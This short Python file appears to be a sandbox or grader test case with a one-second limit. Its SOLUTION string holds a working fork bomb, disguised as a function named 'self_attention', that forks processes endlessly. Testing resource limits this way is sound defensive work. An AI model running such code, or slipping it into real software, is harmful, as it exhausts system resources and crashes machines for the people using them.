"""Start processes that start processes."""

LIMITS = {"cell_seconds": 1}

SOLUTION = """
import os

def self_attention(*arguments):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
